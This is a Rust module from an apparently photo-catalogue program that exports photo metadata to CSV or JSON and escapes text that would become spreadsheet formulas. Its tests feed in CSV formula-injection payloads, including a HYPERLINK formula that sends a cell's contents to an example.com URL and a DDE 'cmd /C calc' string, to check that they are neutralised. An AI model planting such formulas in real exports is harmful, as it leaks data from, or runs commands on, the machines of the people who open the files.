//! Photos with what is known of them, as CSV or JSON.

use std::borrow::Cow;
use std::io::Write;
use std::path::Path;

use serde::Serialize;
use sightline_catalog::PhotoId;

use crate::foreign_text::for_table;
use crate::new_file::{may_be_replaced, new_file_beside, not_written};
use crate::{Engine, EngineError};

/// A file of the library in an exported table.
#[derive(Debug, Serialize)]
struct Record {
    path: String,
    taken_at: Option<String>,
    date_source: Option<&'static str>,
    camera: Option<String>,
    lens: Option<String>,
    width: u32,
    height: u32,
    latitude: Option<f64>,
    longitude: Option<f64>,
    place: Option<String>,
    rating: Option<i8>,
    format: String,
    caption: Option<String>,
    keywords: Vec<String>,
}

/// The same without a list in it, for tables, where no text is a formula.
#[derive(Debug, Serialize)]
struct Row<'a> {
    path: Cow<'a, str>,
    taken_at: Option<Cow<'a, str>>,
    date_source: Option<&'static str>,
    camera: Option<Cow<'a, str>>,
    lens: Option<Cow<'a, str>>,
    width: u32,
    height: u32,
    latitude: Option<f64>,
    longitude: Option<f64>,
    place: Option<Cow<'a, str>>,
    rating: Option<i8>,
    format: Cow<'a, str>,
    caption: Option<Cow<'a, str>>,
    keywords: String,
}

impl<'a> From<&'a Record> for Row<'a> {
    fn from(record: &'a Record) -> Self {
        let cell = |text: &'a Option<String>| text.as_deref().map(for_table);
        Self {
            path: for_table(&record.path),
            taken_at: cell(&record.taken_at),
            date_source: record.date_source,
            camera: cell(&record.camera),
            lens: cell(&record.lens),
            width: record.width,
            height: record.height,
            latitude: record.latitude,
            longitude: record.longitude,
            place: cell(&record.place),
            rating: record.rating,
            format: for_table(&record.format),
            caption: cell(&record.caption),
            keywords: for_table(&record.keywords.join("; ")).into_owned(),
        }
    }
}

impl Engine {
    /// Writes a table of photos, whole or not at all: path, date and where that comes from, camera, size, place, rating, caption, keywords. JSON (an
    /// array of objects) where the file's name ends in `.json`, else CSV (RFC 4180, UTF-8), where a text that would be a
    /// formula has an apostrophe before it.
    ///
    /// # Errors
    /// When the file cannot be written or the library not be read.
    pub fn export_table(&self, photos: &[PhotoId], file: &Path) -> Result<(), EngineError> {
        let io = |source: std::io::Error| EngineError::Io { path: file.into(), source };
        may_be_replaced(file)?;
        let mut whole = new_file_beside(file).map_err(|error| not_written(file, &error))?;
        let mut records = Vec::new();
        for photo in photos {
            records.extend(self.records(*photo)?);
        }
        if file.extension().is_some_and(|extension| extension.eq_ignore_ascii_case("json")) {
            serde_json::to_writer_pretty(&mut whole, &records).map_err(|error| io(error.into()))?;
            whole.write_all(b"\n").map_err(io)?;
        } else {
            let mut table = csv::WriterBuilder::new().has_headers(false).from_writer(&mut whole);
            table.write_record(COLUMNS).map_err(|error| io(error.into()))?;
            for record in &records {
                table.serialize(Row::from(record)).map_err(|error| io(error.into()))?;
            }
            table.flush().map_err(io)?;
        }
        whole.as_file().sync_all().map_err(io)?;
        whole.persist(file).map_err(|error| not_written(file, &error.error))?;
        Ok(())
    }

    /// One record for each file of a photo.
    fn records(&self, photo: PhotoId) -> Result<Vec<Record>, EngineError> {
        let data = self.photo(photo)?;
        let caption = self.caption(photo)?.map(|caption| caption.text);
        let keywords: Vec<String> =
            self.catalog()?.keywords(photo)?.into_iter().filter(|row| !row.removed).map(|row| row.word).collect();
        let row = data.row;
        let record = |path: &std::path::PathBuf| Record {
            path: path.to_string_lossy().into_owned(),
            taken_at: row.taken_at.clone(),
            date_source: row.date_source.map(sightline_catalog::DateSource::as_str),
            camera: row.camera.clone(),
            lens: row.lens.clone(),
            width: row.width,
            height: row.height,
            latitude: row.latitude,
            longitude: row.longitude,
            place: row.place.clone(),
            rating: row.rating,
            format: row.format.clone(),
            caption: caption.clone(),
            keywords: keywords.clone(),
        };
        Ok(data.paths.iter().map(record).collect())
    }
}

/// Names of a table's columns, also where it has no row.
const COLUMNS: [&str; 14] = [
    "path",
    "taken_at",
    "date_source",
    "camera",
    "lens",
    "width",
    "height",
    "latitude",
    "longitude",
    "place",
    "rating",
    "format",
    "caption",
    "keywords",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{RED, World};

    #[test]
    fn a_table_names_every_file_with_its_caption_and_keywords() {
        let world = World::new();
        world.photo("one, \"two\".jpg", RED, 0);
        world.index();
        let engine = world.engine();
        let photos = engine.browse(&Default::default(), sightline_catalog::DateOrder::NewestFirst).unwrap();
        engine.write_caption(photos[0], "Rex, \"the\" dog").unwrap();
        engine.keep_tag(photos[0], "lake").unwrap();
        engine.keep_tag(photos[0], "dog").unwrap();
        let path = world.path("one, \"two\".jpg");
        let (table, list) = (world.photos().with_file_name("t.csv"), world.photos().with_file_name("t.JSON"));
        engine.export_table(&photos, &table).unwrap();
        let mut table = csv::Reader::from_path(&table).unwrap();
        assert_eq!(table.headers().unwrap().iter().collect::<Vec<_>>(), COLUMNS);
        let rows: Vec<csv::StringRecord> = table.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 1);
        let cells: Vec<&str> = rows[0].iter().collect();
        assert_eq!((cells[0], cells[5], cells[6]), (path.to_str().unwrap(), "32", "24"));
        assert_eq!((cells[12], cells[13]), ("Rex, \"the\" dog", "dog; lake"));
        engine.export_table(&photos, &list).unwrap();
        let list: serde_json::Value = serde_json::from_slice(&std::fs::read(&list).unwrap()).unwrap();
        assert_eq!(list[0]["path"], path.to_str().unwrap());
        assert_eq!(list[0]["keywords"], serde_json::json!(["dog", "lake"]));
        assert_eq!((&list[0]["caption"], &list[0]["camera"]), (&"Rex, \"the\" dog".into(), &serde_json::Value::Null));
        assert_eq!(
            engine.export_table(&[], Path::new("/no/such/folder/t.csv")).unwrap_err().code(),
            "file_not_written"
        );
    }
    #[test]
    fn no_text_of_a_table_is_a_formula_and_everybody_may_read_it_who_may_read_new_files() {
        let world = World::new();
        world.photo("a.jpg", RED, 0);
        world.index();
        let engine = world.engine();
        let photos = engine.browse(&Default::default(), sightline_catalog::DateOrder::NewestFirst).unwrap();
        let table = world.photos().with_file_name("t.csv");
        for formula in ["=HYPERLINK(\"http://example.com/?\"&A1,\"open\")", "+1", "-1+cmd|' /C calc'!A0", "@SUM(1)"] {
            engine.write_caption(photos[0], formula).unwrap();
            engine.export_table(&photos, &table).unwrap();
            let mut rows = csv::Reader::from_path(&table).unwrap();
            let row = rows.records().next().unwrap().unwrap();
            assert_eq!(row[12], format!("'{formula}"));
        }
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let new = table.with_file_name("new");
            std::fs::write(&new, "").unwrap();
            let mode = |file: &Path| file.metadata().unwrap().permissions().mode() & 0o777;
            assert_eq!(mode(&table), mode(&new));
        }
    }
}
